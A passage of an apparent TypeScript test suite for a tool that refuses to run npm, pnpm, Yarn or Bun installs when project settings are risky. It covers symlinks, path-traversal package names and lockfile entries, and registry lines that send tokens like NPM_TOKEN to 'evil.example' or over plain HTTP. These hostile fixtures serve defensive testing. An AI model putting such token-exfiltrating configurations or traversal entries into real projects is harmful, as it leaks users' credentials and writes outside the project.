    const files = [`${functions}/x.js`, ...names].map((name) => [name, ''] as const);
    const top = folderWith({ ...Object.fromEntries(files), [manifest]: '{}' });
    mkdirSync(path.dirname(path.join(top, place)), { recursive: true });
    symlinkSync(target(top), path.join(top, place));
    const directory = path.join(top, functions);
    return projectSettings('npm', { directory, root: directory, top, env: { HOME: home } }).dangers;
  }

  test.each([
    modules,
    `${modules}/.bin`,
    `${modules}/.package-lock.json`,
    `${modules}/@types`,
    `${modules}/.pnpm/lock.yaml`,
    `${modules}/.pnpm/ms@2.1.3/node_modules`,
    `${modules}/a/node_modules`,
    `${modules}/@types/a/node_modules/.bin`,
    `${functions}/package-lock.json`,
    `${functions}/npm-shrinkwrap.json`,
    `${functions}/pnpm-lock.yaml`,
    `${functions}/.yarn/install-state.gz`,
  ])('is not started: %s is a link to elsewhere, in the project or out of it, or to nothing', (place) => {
    const elsewhere = folderWith({ x: '' });
    const inside = /\.(json|yaml|gz)$/.test(place) ? 'inside/x' : 'inside';
    for (const target of [elsewhere, path.join(elsewhere, 'nothing'), inside, 'nothing', '.git'])
      expect(withLink(place, (top) => path.resolve(top, target))).toEqual([
        `${place} is a link that leads elsewhere`,
      ]);
  });

  test.each([
    [modules, 'node_modules'],
    [`${modules}/@types`, 'node_modules/@types'],
    [`${modules}/.pnpm/ms@2.1.3`, 'node_modules/ms'],
    [`${modules}/.pnpm/node_modules/.bin`, 'node_modules/ms'],
    [`${modules}/.pnpm/Node_Modules/.bin`, 'node_modules/ms'],
    [`${modules}/.store/ms/package/node_modules`, 'node_modules/ms'],
    [`${functions}/package-lock.json`, 'other/package-lock.json'],
    [`${functions}/.yarn`, 'other/.yarn'],
    [`${functions}/.yarn/cache`, 'other/.yarn'],
    [`${functions}/.yarn/cache/.gitignore`, 'other/.yarn/x'],
    [`${functions}/.yarn/cache/v6/npm-ms/node_modules`, 'inside'],
    [`${functions}/.yarn/unplugged/ms/node_modules`, 'node_modules/ms'],
    [`${functions}/.yarn/unplugged/ms/node_modules/@a/ms/.ready`, 'nothing'],
    [`${modules}/.bin/tsc`, 'inside'],
    [`${modules}/.bin/tsc`, '.git/x'],
    [`${modules}/.bin/tsc`, '.git/not-there'],
  ])('nor where %s is a link to %s of the project', (place, target) => {
    expect(withLink(place, (top) => path.join(top, target))).toEqual([
      `${place} is a link that leads elsewhere`,
    ]);
  });

  test.each([
    [`${modules}/.bin/tsc`, 'inside/x'],
    [`${modules}/.bin/tsc`, 'inside/not-built-yet'],
  ])('is started where %s is a link to %s of the project', (place, target) => {
    expect(withLink(place, (top) => path.join(top, target))).toEqual([]);
  });

  test.each(['..', '../x', '@a/../../x', '.', '.git', 'a/b', '/x', 'node_modules', '@a/..', 'a\\b'])(
    'is not started: a dependency is called %j, which Yarn and pnpm take for a path',
    (name) => {
      const problem = `${manifest} has a dependency whose name is not one of a package`;
      for (const list of ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies'])
        for (const packageManager of ['npm', 'pnpm', 'yarn', 'bun'] as const) {
          const files = { [manifest]: JSON.stringify({ [list]: { [name]: 'npm:is-number@7.0.0' } }) };
          expect(settingsFor(packageManager, files).dangers).toContain(problem);
        }
    },
  );

  test.each([
    [
      'node_modules/.pnpm/lock.yaml',
      "importers:\n  .:\n    dependencies:\n      '..':\n        version: 1.0.0\n",
    ],
    ['node_modules/.pnpm/lock.yaml', 'packages:\n  ..@1.0.0:\n    resolution: {}\n'],
    ['yarn.lock', '"..@1":\n  version "1.0.0"\n'],
    ['yarn.lock', '"x@1":\n  version "1.0.0"\n  dependencies:\n    ".." "1"\n'],
    ['yarn.lock', 'x@1:\n  version "1.0.0"\n  resolved "/elsewhere/x.tgz#1"\n'],
    ['yarn.lock', '"x@file:/elsewhere/x.tgz":\n  version "1.0.0"\n'],
    ['yarn.lock', 'x@1:\n  version "1.0.0"\n  dependencies:\n    b "file:../../../../../victim"\n'],
    ['yarn.lock', '"x@npm:1":\n  resolution: "x@npm:1"\n  dependencies:\n    b: "file:/victim"\n'],
    [
      'node_modules/.yarn-state.yml',
      '"a@workspace:.":\n  locations:\n    - ""\n  bin:\n    ".":\n      "../../../../victim": "b/b.js"\n',
    ],
    ['node_modules/.yarn-state.yml', '"a@npm:1":\n  locations:\n    - "../../victim/node_modules/a"\n'],
    ...['"p/c": {t: "../../../../x.js"}', '".": {t: "a/../../../x"}', '"p": {t: "/x"}', '"..": {t: "a"}'].map(
      (bin): [string, string] => ['node_modules/.yarn-state.yml', `"a@workspace:p/c":\n  bin: {${bin}}\n`],
    ),
    ...['file', 'link'].flatMap((protocol): [string, string][] => [
      ['bun.lock', `{"packages": {"zed": ["zed@${protocol}:../../../../../victim", {}],}}`],
      ['yarn.lock', `zed@^1.0.0:\n  version "1.0.0"\n  resolved "${protocol}:../../../../../victim"\n`],
      [
        'yarn.lock',
        `"zed@npm:^1.0.0":\n  resolution: "zed@${protocol}:../../../../victim::locator=a%40workspace%3A.."\n`,
      ],
    ]),
    ['bun.lock', '{"packages": {"zed": ["zed@link:/elsewhere", {}]}}'],
    ['bun.lock', '{"packages": {"zed": ["zed@/elsewhere/zed.tgz", {}]}}'],
  ])('is not started: %s has a package in a folder outside: %s', (name, text) => {
    const file = `${functions}/${name}`;
    expect(settingsFor('pnpm', { [manifest]: '{}', [file]: text }).dangers).toContain(
      `${file} has packages in folders outside`,
    );
  });

  test('is started where Yarn kept what it installed', () => {
    const locations = { locations: ['node_modules/@a/b', 'packages/c/node_modules/@a/b'] };
    const kept = {
      __metadata: { version: 1, nmMode: 'classic' },
      'a@workspace:.': {
        locations: [''],
        bin: {
          '.': { b: 'b/bin.js' },
          'packages/c/': { d: '@d/e/f.js', c: '../bin/c.js', g: '../../g/g.js' },
        },
      },
      '@a/b@workspace:packages/b': locations,
      'c@patch:c@npm%3A5.4.2#optional!builtin<compat/c>::version=5.4.2&hash=5adc0c': locations,
      'd@portal:../d::locator=a%40workspace%3A.': locations,
    };
    const files = { [manifest]: '{}', [`${modules}/.yarn-state.yml`]: JSON.stringify(kept) };
    expect(settingsFor('yarn', files).dangers).toEqual([]);
  });

  test('is started where a lockfile has packages of every range', () => {
    const ranges = [
      '^1.0.0',
      '~1.0.0',
      '*',
      '1.x',
      '>=1 <2',
      'latest',
      'npm:y@~2.0.0',
      'file:./lib',
      'link:lib',
    ];
    const text = ranges.map(
      (range) => `"x@${range}", x-y@~1.0.0:\n  version "1.0.0"\n  resolved "https://x.example/x.tgz#1"\n`,
    );
    const files = { [manifest]: '{}', [`${functions}/yarn.lock`]: text.join('\n') };
    expect(settingsFor('yarn', files).dangers).toEqual([]);
  });

  test.each(['a', '@a/b', 'a/node_modules/b', '.pnpm/a@1.0.0/node_modules/a', '.pnpm/node_modules/a'])(
    'nor where node_modules/%s is a link to what is no package of the project, as npm link makes it',
    (name) => {
      const outside = folderWith({ 'package.json': '{}' });
      for (const target of [outside, 'inside', 'inside/x', 'node_modules/ms', '.git', '.'])
        expect(withLink(`${modules}/${name}`, (top) => path.resolve(top, target))).toEqual([
          expect.stringContaining(`${modules}/${name} is a link, but not to a package of the project`),
        ]);
    },
  );

  test.each<[PackageManager, string, string]>([
    ['npm', 'a', `${functions}`],
    ['npm', '@a/b', `${modules}/c`],
    ['pnpm', 'a', `${modules}/.pnpm/a@1.0.0/node_modules/a`],
    ['pnpm', '.pnpm/b@1.0.0/node_modules/a', `${modules}/.pnpm/a@1.0.0/node_modules/a`],
    ['yarn', 'a', `${modules}/.store/a/package`],
    ['npm', 'a', 'lib'],
    ['pnpm', 'a', 'dist'],
    ['pnpm', 'a', 'set'],
    ['pnpm', 'a', 'gone'],
    ['npm', 'a', `${modules}/a`],
  ])('but may be where %s links node_modules/%s to %s', (packageManager, name, target) => {
    const needs = {
      dependencies: { l: 'file:../../../../lib' },
      publishConfig: { directory: '../../../../dist' },
    };
    const packages = [
      `${modules}/c`,
      `${modules}/.pnpm/a@1.0.0/node_modules/a`,
      `${modules}/.store/a/package`,
    ];
    const top = folderWith({
      [manifest]: JSON.stringify(needs),
      [yaml]: 'overrides:\n  a: link:../../../../set\n',
      ...Object.fromEntries(['lib', 'dist', 'set', ...packages].map((one) => [`${one}/package.json`, '{}'])),
    });
    const link = path.join(top, modules, name);
    mkdirSync(path.dirname(link), { recursive: true });
    symlinkSync(path.join(top, target), link);
    const directory = path.join(top, functions);
    const place = { directory, root: directory, top, env: { HOME: home } };
    expect(projectSettings(packageManager, place).dangers).toEqual([]);
  });

  test.each<[PackageManager, string]>([
    ['npm', rc],
    ['npm', `${functions}/package-lock.json`],
    ['npm', `${modules}/.package-lock.json`],
    ['pnpm', yaml],
    ['pnpm', `${functions}/pnpm-lock.yaml`],
    ['yarn', 'shop/.yarnrc'],
    ['yarn', '.yarnrc.yml'],
    ['bun', toml],
    ...['a', '@a/b', 'a/node_modules/b', '.pnpm/a@1.0.0/node_modules/a'].flatMap((name) =>
      (['npm', 'pnpm'] as const).map((one): [PackageManager, string] => [
        one,
        `${modules}/${name}/package.json`,
      ]),
    ),
    ['yarn', `${functions}/.yarn/cache/a.zip`],
    ...['lib/cli', 'lib/.npmignore', 'lib/a/b/.npmignore', 'a.tgz'].flatMap((name) =>
      (['npm', 'pnpm', 'yarn', 'bun'] as const).map((one): [PackageManager, string] => [
        one,
        `${functions}/${name}`,
      ]),
    ),
  ])('%s is not started where %s is a pipe', (packageManager, file) => {
    const needs = JSON.stringify({ dependencies: { l: 'file:./lib', a: 'file:./a.tgz' } });
    const top = folderWith({ [manifest]: needs, [`${functions}/lib/x.js`]: '', [`${modules}/x`]: '' });
    mkdirSync(path.dirname(path.join(top, file)), { recursive: true });
    execFileSync('mkfifo', [path.join(top, file)]);
    const directory = path.join(top, functions);
    const place = { directory, root: directory, top, env: { HOME: home } };
    const { dangers } = projectSettings(packageManager, place);
    expect(dangers.length).toBeGreaterThan(0);
    expect(dangers.join()).toContain(file);
  });
});

describe('a variable of the shell', () => {
  const env = { SHOP_KEY: 'canary', NPM_TOKEN: 'canary', PLAIN: 'canary', COMPANY_TOKEN: 'canary' };
  const withLine = (line: string) => settingsFor('npm', { [`${functions}/.npmrc`]: line }, env);

  test('goes where npm’s own registry gets it, and nowhere else that only the project names', () => {
    expect(withLine('//npm.pkg.github.com/:_authToken=${NPM_TOKEN}')).toMatchObject({
      dangers: [],
      passed: ['NPM_TOKEN'],
    });
    for (const line of [
      '//evil.example/:_authToken=${NPM_TOKEN}',
      '//evil.example/:_authToken=${SHOP_KEY}',
      'registry=https://evil.example/${NPM_TOKEN}/',
      'registry=https://evil.example/${PLAIN}/',
      'registry=https://evil.example/${plain?}/',
      '//evil.example/:username=${PLAIN:-x}',
      'message=${SHOP_KEY}',
      '//npm.pkg.github.com/:_authToken=${NPM_TOKEN}\n//evil.example/:_authToken=${NPM_TOKEN}',
    ]) {
      const { dangers, passed } = withLine(line);
      expect(dangers).toHaveLength(1);
      expect(passed).toEqual([]);
      expect(dangers.join()).not.toContain('canary');
    }
  });

  const github = 'https://npm.pkg.github.com';
  const scope = (server: string, token: string) =>
    `npmScopes:\n  a:\n    npmRegistryServer: ${server}\n    npmAuthToken: ${token}\n`;
  const ofBun = (url: string, token: string) =>
    `[install.scopes]\n"@a" = { url = "${url}", token = "${token}" }\n`;

  test.each<[PackageManager, string, string]>([
    ['npm', rc, '//npm.pkg.github.com/:_authToken=${SHOP_KEY}'],
    ['npm', rc, '//npm.pkg.github.com/:_authToken=a${NPM_TOKEN}'],
    ['npm', rc, '//npm.pkg.github.com/:_authToken=${NPM_TOKEN}${COMPANY_TOKEN}'],
    ['npm', rc, '//npm.pkg.github.com/:_password=${NPM_TOKEN}'],
    ['npm', rc, '//npm.pkg.github.com:4666/:_authToken=${NPM_TOKEN}'],
    ['npm', rc, '//u@npm.pkg.github.com/:_authToken=${NPM_TOKEN}'],
    ['npm', rc, '//npm.pkg.github.com/../x/:_authToken=${NPM_TOKEN}'],
    ['npm', rc, '//x.npmjs.org/:_authToken=${NPM_TOKEN}'],
    ...['http:', 'HTTP:', '${NONE?}http:', '${NONE-http:}'].map(
      (protocol): [PackageManager, string, string] => [
        'npm',
        rc,
        `@a:registry=${protocol}//npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=\${NPM_TOKEN}`,
      ],
    ),
    ['bun', rc, '@a:registry=http://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${NPM_TOKEN}'],
    ['bun', toml, ofBun('http://npm.pkg.github.com', '$NPM_TOKEN')],
    ['bun', toml, ofBun('https://npm.pkg.github.com:4666', '$NPM_TOKEN')],
    ['bun', toml, ofBun('evil.example', '$NPM_TOKEN')],
    ['bun', toml, ofBun(github, '$SHOP_KEY')],
    ['bun', toml, ofBun(github, 'a$NPM_TOKEN')],
    ...[
      '"http://npm.pkg.github.com"',
      '"https:/evil.example"',
      '"https:evil.example"',
      '"https:\\/\\/evil.example"',
      '"ht\ttps:evil.example"',
      '"ht\n\n      tps:evil.example"',
      `"${github}\n\n      .evil.example"`,
      `${github}\n\n      .evil.example`,
      `|-\n      ${github}\n      .evil.example`,
      `"\${NONE:-https:}//evil.example"`,
      `"https://npm.pkg.github.com@evil.example"`,
      `"https://npm.pkg.github.com'.evil.example"`,
    ].map((server): [PackageManager, string, string] => [
      'yarn',
      '.yarnrc.yml',
      scope(server, '"${NPM_TOKEN}"'),
    ]),
    ['yarn', '.yarnrc.yml', scope(github, '"${SHOP_KEY}"')],
    ['yarn', '.yarnrc.yml', scope(github, '"a${NPM_TOKEN}"')],
    ['yarn', '.yarnrc.yml', 'npmAuthIdent: "${NPM_TOKEN}"'],
    ['yarn', '.yarnrc.yml', `unsafeHttpWhitelist: ["*.github.com"]\n${scope(github, '"${NPM_TOKEN}"')}`],
    [
      'yarn',
      '.yarnrc.yml',
      `unsafeHttpWhitelist:\n  - npm.pkg.github.com\n${scope(github, '"${NPM_TOKEN}"')}`,
    ],
  ])(
    '%s: goes to a public registry only encrypted, at its own address and as a token: %s with %j',
    (one, file, text) => {
      const { dangers } = settingsFor(one, { [file]: text }, env);
      expect(dangers).not.toEqual([]);
      expect(dangers.join()).not.toContain('canary');
    },
  );

  test('nor does an address of the project send such a token in the open', () => {
    const files = {
      [rc]: '//npm.pkg.github.com/:_authToken=${NPM_TOKEN}',
      [manifest]: '{"dependencies": {"a": "http://npm.pkg.github.com/a.tgz"}}',
    };
    expect(settingsFor('npm', files, env).dangers).toHaveLength(1);
    expect(settingsFor('npm', files).dangers).toEqual([]);
  });

  test.each<[PackageManager, string, string]>([
    ['npm', rc, '@a:registry=https://npm.pkg.github.com/\n//npm.pkg.github.com/:_authToken="${NPM_TOKEN}"'],
    ['npm', rc, '//npm.pkg.github.com/@a/:_authToken=${NPM_TOKEN:-}\nregistry=https://npm.example/'],
    [
      'yarn',
      '.yarnrc.yml',
      `# https://yarn.example/\n${scope(`"${github}/"`, '"${NPM_TOKEN:-}" # ours')}packageExtensions:\n  "a@npm:^1":\n    dependencies:\n      b: "^1"\nsupportedArchitectures:\n  os:\n    - linux\n`,
    ],
    ['yarn', '.yarnrc.yml', 'npmAuthToken: ${NPM_TOKEN}'],
    ['bun', toml, ofBun(`${github}/`, '$NPM_TOKEN')],
  ])('%s: goes there as projects commonly have it: %s with %j', (one, file, text) => {
    expect(settingsFor(one, { [file]: text }, env)).toMatchObject({ dangers: [], passed: ['NPM_TOKEN'] });
  });

  test('goes where the user’s own configuration says', () => {
    const user = folderWith({ '.npmrc': '//npm.example/:_authToken=${COMPANY_TOKEN}\n' });
    const found = settingsFor(
      'npm',
      { [`${functions}/.npmrc`]: '//npm.example/:_authToken=${NPM_TOKEN}' },
      {
        ...env,
        HOME: user,
      },
    );
    expect(found).toMatchObject({ dangers: [], passed: ['NPM_TOKEN', 'COMPANY_TOKEN'] });
  });
});

test.each<[PackageManager, string, string]>([
  ['pnpm', yaml, 'registry: https://evil.example/${PLAIN}'],
  ['yarn', '.yarnrc.yml', 'npmRegistryServer: "https://evil.example/${PLAIN:-x}"'],
  ['yarn', '.yarnrc.yml', 'npmRegistryServer: "https://evil.example"\nnpmAuthToken: "${PLAIN}"'],
  ['bun', toml, '[install]\nregistry = { url = "https://evil.example", token = "$PLAIN" }'],
])(
  '%s: a variable that %s would send to a server that only the project names stops it',
  (packageManager, file, text) => {
    expect(settingsFor(packageManager, { [file]: text }, { PLAIN: 'canary' }).dangers).toHaveLength(1);
    expect(settingsFor(packageManager, { [file]: text }).dangers).toEqual([]);
  },
);

test.each<[PackageManager, string, string]>([
  [
    'yarn',
    '.yarnrc.yml',
    'npmScopes:\n  a:\n    npmRegistryServer: "https://npm.pkg.github.com"\n    npmAuthToken: "${NPM_TOKEN}"',
  ],
  ['bun', toml, '[install.scopes]\n"@a" = { url = "https://npm.pkg.github.com", token = "$NPM_TOKEN" }'],
])('%s: a token for a public registry in %s is handed on', (packageManager, file, text) => {
  expect(settingsFor(packageManager, { [file]: text }, { NPM_TOKEN: 'canary' })).toMatchObject({
    dangers: [],
    passed: ['NPM_TOKEN'],
  });
});

test('what the user’s own configuration sends to a registry is not sent elsewhere, or in the open', () => {
  const user = folderWith({
    '.npmrc': `@a:registry=https://npm.example/\n//npm.example/:_authToken=x\n//${publicRegistry}/:_authToken=x\n`,
  });
  const withLine = (line: string) => settingsFor('npm', { [rc]: line }, { HOME: user }).dangers;
  expect(withLine('@a:registry=https://evil.example/')).toHaveLength(1);
  expect(withLine('@a:registry=https://npm.example/')).toEqual([]);
  expect(withLine(`registry=http://${publicRegistry}/`)).toHaveLength(1);
  expect(withLine('registry=https://evil.example/')).toEqual([]);
});

test.each<[PackageManager, string, string, string, string]>([
  ['pnpm', '.npmrc', '_authToken=a\n', '.npmrc', 'registry=https://other.example/\n'],
  ['yarn', '.npmrc', '_auth = a\n', '.yarnrc', 'registry "https://other.example/"\n'],
  ['pnpm', '.npmrc', '_authToken=a\n', '.npmrc', '@b:registry=https://other.example/\n'],
  ['yarn', '.yarnrc.yml', 'npmAuthToken: a\n', '.yarnrc.yml', 'npmRegistryServer: "https://other.example"\n'],
  [
    'yarn',
    '.yarnrc.yml',
    'npmAuthToken: a\n',
    '.yarnrc.yml',
    'npmScopes:\n  b:\n    npmRegistryServer: "https://other.example"\n',
  ],
  [
    'yarn',
    '.yarnrc.yml',
    'npmScopes:\n  b:\n    npmAuthToken: a\n',
    '.yarnrc.yml',
    'npmRegistryServer: "https://other.example"\n',
  ],
  [
    'yarn',
    '.yarnrc.yml',
    'npmScopes:\n  b:\n    npmAuthToken: a\n    npmRegistryServer: "https://b.example"\n',
    '.yarnrc.yml',
    'npmScopes:\n  "b":\n    npmRegistryServer: "https://other.example"\n',
  ],
  ...[
    'npmScopes:\n  my.org: # ours\n    npmAuthToken: a\n    npmRegistryServer: "https://b.example"\n',
    'npmScopes: {my.org: {npmRegistryServer: "https://b.example", npmAuthIdent: a}}\n',
    'npmScopes:\n  ? "my\\x2eorg"\n  : npmAuthToken: a\n    npmRegistryServer: "https://b.example"\n',
    '"npmAuthToken": a\n',
    '? npmAuthToken\n: a\n',
    '{npmAlwaysAuth: true, npmAuthIdent: a}\n',
    '  npmAuthToken: a\n',
    'npmAuthToken: !odd a\n',
  ].map((user): [PackageManager, string, string, string, string] => [
    'yarn',
    '.yarnrc.yml',
    user,
    '.yarnrc.yml',
    'npmScopes:\n  my.org:\n    npmRegistryServer: "https://other.example"\n',
  ]),
  [
    'yarn',
    '.yarnrc.yml',
    'npmScopes: {b: {npmAuthToken: a}, c: {npmRegistryServer: "https://c.example"}}\n',
    '.yarnrc.yml',
    'npmRegistryServer: "https://other.example"\n',
  ],
  ...['"_authToken"=a\n', '_authToken[]=a\n', "'_auth' = a\n"].map(
    (user): [PackageManager, string, string, string, string] => [
      'pnpm',
      '.npmrc',
      user,
      '.npmrc',
      'registry=https://other.example/\n',
    ],
  ),
])(
  'a token of the user that is for no registry in particular goes to none that only the project names: %s, %s %j, %s %j',
  (packageManager, userFile, user, file, project) => {
    const { dangers } = settingsOf(packageManager, { [userFile]: user }, { [file]: project });
    expect(dangers).toContainEqual(expect.stringMatching(/ hands a token of yours to what it names in /));
  },
);

test.each<[PackageManager, string, string, string, string]>([
  [
    'pnpm',
    '.npmrc',
    'registry=https://b.example/\n_authToken=a\n',
    '.npmrc',
    '@b:registry=https://b.example\n',
  ],
  ['pnpm', '.npmrc', '_authToken=a\n', '.npmrc', `registry=https://${publicRegistry}/\n`],
  [
    'yarn',
    '.yarnrc.yml',
    'npmRegistries:\n  "//b.example":\n    npmAuthToken: a\n',
    '.yarnrc.yml',
    'npmRegistryServer: "https://other.example"\n',
  ],
  [
    'yarn',
    '.yarnrc.yml',
    'npmScopes:\n  b:\n    npmAuthToken: a\n    npmRegistryServer: "https://b.example"\n',
    '.yarnrc.yml',
    'npmScopes:\n  c:\n    npmRegistryServer: "https://other.example"\n',
  ],
])(
  'but to a public one, or one that is theirs, and no other token counts: %s, %s %j, %s %j',
  (packageManager, userFile, user, file, project) => {
    const { dangers } = settingsOf(packageManager, { [userFile]: user }, { [file]: project });
    expect(dangers).toEqual([]);
  },
);

test.each([
  '.config/pnpm/auth.ini',
  '.config/pnpm/rc',
  '.config/.bunfig.toml',
  'Library/Preferences/pnpm/rc',
  'AppData/Local/pnpm/config/rc',
])('what the user has for a registry in %s is not sent in the open, either', (file) => {
  const top = folderWith({
    [`home/${file}`]: '//npm.example/:_authToken=a\n',
    [`${functions}/package.json`]: JSON.stringify({ dependencies: { a: 'http://npm.example/a.tgz' } }),
  });
  const directory = path.join(top, functions);
  const env = { HOME: path.join(top, 'home'), LOCALAPPDATA: path.join(top, 'home/AppData/Local') };
  expect(projectSettings('pnpm', { directory, root: directory, top, env }).dangers).toHaveLength(1);
});

describe('a cache of Yarn', () => {
  const settings = (value: string) => `enableGlobalCache: false\ncacheFolder: ${value}\n`;

  test('may be named where it is kept anyway', () => {
    for (const value of ['.yarn/cache', './.yarn/cache', '"./.yarn/cache"', "'.yarn/cache'"])
      expect(settingsFor('yarn', { [`${functions}/.yarnrc.yml`]: settings(value) }).dangers).toEqual([]);
  });

  test.each([
    '../.yarn/cache',
    '.yarn',
    '/.yarn/cache',
    '.yarn/cache/../../..',
    '~/.yarn/cache',
    '${A}/.yarn/cache',
  ])('may be nowhere else: %s', (value) => {
    expect(settingsFor('yarn', { [`${functions}/.yarnrc.yml`]: settings(value) }).dangers).not.toEqual([]);
  });

  test('nor for Yarn 1, which keeps what it knows of packages there', () => {
    const files = { [`${functions}/.yarnrc`]: 'cache-folder "./.yarn/cache"' };
    expect(settingsFor('yarn', files).dangers).toEqual([expect.stringContaining('sets cache-folder')]);
  });

  test('nor in a folder that is not installed, whose links are not looked for', () => {
    expect(settingsFor('yarn', { 'shop/.yarnrc.yml': settings('.yarn/cache') }).dangers).toHaveLength(1);
  });
});

test.each<[string, string]>([
  ['bun.lockb', 'bun-lockfile-format-v0 @a/b../../../victimtiny'],
  ['bun.lockb', 'bun-lockfile-format-v0 a@file:../../../../../victimtiny'],
  ['bun.lock', '{"packages": {"../../victim": ["../../victim@1.0.0", "", {}, ""]}}'],
])('a name in %s leads to no folder outside: %s', (name, text) => {
  expect(settingsFor('bun', { [`${functions}/${name}`]: text }).dangers).toHaveLength(1);
});

test.each(['yarn.json', 'shop/yarn.json', 'libs/a/yarn.json'])(
  'Yarn is not started where it would read a manifest of its own: %s',
  (name) => {
    const files = { 'package.json': `{ "workspaces": ["libs/*", "${functions}"] }`, [name]: '{}' };
    expect(settingsFor('yarn', files).dangers).toEqual([`it would read ${name}`]);
  },
);

test('Yarn is not started if the project wants the Plug’n’Play of Yarn 1', () => {
  const text = '{ "installConfig": { "pnp": true, "hoistingLimits": "workspaces" } }';
  expect(settingsFor('yarn', { [`${functions}/package.json`]: text }).dangers).toHaveLength(1);
  const others = text.replace('"pnp": true, ', '');
  expect(settingsFor('yarn', { [`${functions}/package.json`]: others }).dangers).toEqual([]);
});

describe('packages of a scope come from the registry that the user’s own configuration has for it', () => {
  const registryOf = (address: string) => ({
    '.npmrc': `@corp:registry=${address}\n`,
    '.yarnrc': `"@corp:registry" "${address}"\n`,
    '.yarnrc.yml': `npmScopes:\n  corp:\n    npmRegistryServer: "${address}"\n`,
    'pnpm-workspace.yaml': `registries:\n  '@corp': ${address}\n`,
    'bunfig.toml': `[install.scopes]\n"@corp" = "${address}"\n`,
  });
  const ofUser = registryOf('https://npm.corp.example');
  const files: readonly (readonly [PackageManager, keyof typeof ofUser])[] = [
    ['npm', '.npmrc'],
    ['pnpm', '.npmrc'],
    ['pnpm', 'pnpm-workspace.yaml'],
    ['yarn', '.yarnrc'],
    ['yarn', '.yarnrc.yml'],
    ['bun', '.npmrc'],
    ['bun', 'bunfig.toml'],
  ];
  const owns = [
    ['.npmrc', '.npmrc'],
    ['.yarnrc', '.yarnrc'],
    ['.yarnrc.yml', '.yarnrc.yml'],
    ['.bunfig.toml', 'bunfig.toml'],
    ['.config/pnpm/config.yaml', 'pnpm-workspace.yaml'],
  ] as const;

  test.each(owns.flatMap(([own, kind]) => files.map(([one, name]) => [own, one, name, kind] as const)))(
    'in ~/%s, whatever is in the one of %s: %s',
    (own, one, name, kind) => {
      for (const address of ['http://evil.example', `https://${publicRegistry}`]) {
        const text = registryOf(address)[name];
        const { dangers } = settingsOf(one, { [own]: ofUser[kind] }, { [name]: text });
        expect(dangers).toContainEqual(
          expect.stringMatching(/takes? (@corp|packages of a scope) from another registry than your own/),
        );
      }
      const text = registryOf('https://npm.corp.example/')[name];
      expect(settingsOf(one, {}, { [name]: text }).dangers).toEqual([]);
      // With `registries`, pnpm 10 forgets the registries of all scopes.
      if (name === 'pnpm-workspace.yaml') return;
      expect(settingsOf(one, { [own]: ofUser[kind] }, { [name]: text }).dangers).toEqual([]);
      expect(
        settingsOf(one, { [own]: ofUser[kind].replace('corp', 'others') }, { [name]: text }).dangers,
      ).toEqual([]);
    },
  );

  test.each([
    ['.npmrc', '//${NOT_SET}/:_authToken=a\nfoo(bar)=1\n@corp:registry=https://npm.corp.example/\n'],
    ['.bunfig.toml', '[install.scopes."@corp"]\nurl = "https://npm.corp.example"\n'],
    ['.bunfig.toml', '[install]\nscopes.corp = "https://npm.corp.example"\n'],
    ['.bunfig.toml', '[install]\nscopes = { corp = { url = "https://npm.corp.example" } }\n'],
  ])('of any scope, where only the package manager can read ~/%s: %j', (own, text) => {
    const dangersFor = (project: string) => settingsOf('npm', { [own]: text }, { '.npmrc': project }).dangers;
    expect(dangersFor('@corp:registry=https://evil.example\n')).toHaveLength(1);
    expect(dangersFor('registry=https://npm.example\n')).toEqual([]);
  });

  test('also in a variable, and where Yarn 1 has written a mail address beside it', () => {
    const project = { '.npmrc': '@corp:registry=https://evil.example\n' };
    const env = { 'npm_config_@corp:registry': 'https://npm.corp.example/' };
    expect(
      settingsFor('npm', { [rc]: project['.npmrc'] }, { ...env, HOME: folderWith({}) }).dangers,
    ).toHaveLength(1);
    const own = `init-author-email me@corp.example\n${ofUser['.yarnrc']}`;
    expect(settingsOf('npm', { '.yarnrc': own }, project).dangers).toHaveLength(1);
    expect(settingsOf('npm', { '.yarnrc': own }, { '.npmrc': ofUser['.npmrc'] }).dangers).toEqual([]);
  });

  test.each<[PackageManager, string, string]>([
    ['pnpm', 'pnpm-workspace.yaml', 'registries:\n  default: https://evil.example\n'],
    ['pnpm', 'pnpm-workspace.yaml', "registries:\n  '@b': https://evil.example\n"],
    ...['\n  onConflict: reset', '\n  onConflict: reset\n  value:\n    b:\n      npmAlwaysAuth: false'].map(
      (text): [PackageManager, string, string] => ['yarn', '.yarnrc.yml', `npmScopes:${text}\n`],
    ),
    ...['', ' null', ' []', ' a', '\n  b:', '\n  b: null', '\n  b: {onConflict: reset, value: {}}'].map(
      (text): [PackageManager, string, string] => ['yarn', '.yarnrc.yml', `npmScopes:${text}\n`],
    ),
    ['bun', 'bunfig.toml', '[install]\nscopes = { corp = "https://evil.example" }\n'],
    ['bun', 'bunfig.toml', '[install]\nscopes = { "@corp" = "https://npm.corp.example" }\n'],
    ...[
      `a = "url = 'https://npm.corp.example'", url = "https://evil.example"`,
      'x-url = "https://npm.corp.example", url = "https://evil.example"',
      'url = "https://npm.corp.example", url = "https://evil.example"',
      'url = "https://npm.corp.example", "url" = "https://evil.example"',
      'a = "x", url = "https://npm.corp.example", url = "https://evil.example"',
      `a = "x\\", url = 'https://npm.corp.example', b = \\"", "url" = "https://evil.example"`,
    ].map((text): [PackageManager, string, string] => [
      'bun',
      'bunfig.toml',
      `[install.scopes]\n"@corp" = { ${text} }\n`,
    ]),
  ])('only a plain way to name registries is accepted of a project for %s: %s: %j', (one, name, text) => {
    expect(settingsOf(one, { '.npmrc': ofUser['.npmrc'] }, { [name]: text }).dangers).toHaveLength(1);
    expect(settingsOf(one, {}, { [name]: text }).dangers).toEqual([]);
  });

  test('of any scope, where a file of the user’s cannot be read', () => {
    const { dangers } = settingsOf(
      'npm',
      { '.bunfig.toml/x': '' },
      { '.npmrc': registryOf('https://a.example')['.npmrc'] },
    );
    expect(dangers).not.toEqual([]);
  });

  describe.each<[string, string, string, string]>([
    ['.npmrc', 'prefix=', 'PREFIX', 'global/etc/npmrc'],
    ['.npmrc', 'prefix = ', 'NPM_CONFIG_PREFIX', 'global/etc/npmrc'],
    ['.npmrc', 'globalconfig=', 'npm_config_globalconfig', 'global'],
    ['.config/pnpm/rc', 'globalconfig=', 'NPM_CONFIG_USERCONFIG', 'global'],
    ['.config/pnpm/config.yaml', 'npmrcAuthFile: ', 'pnpm_config_npmrc_auth_file', 'global'],
    ['.config/pnpm/config.yaml', 'userconfig: ', 'pnpm_config_userconfig', 'global'],
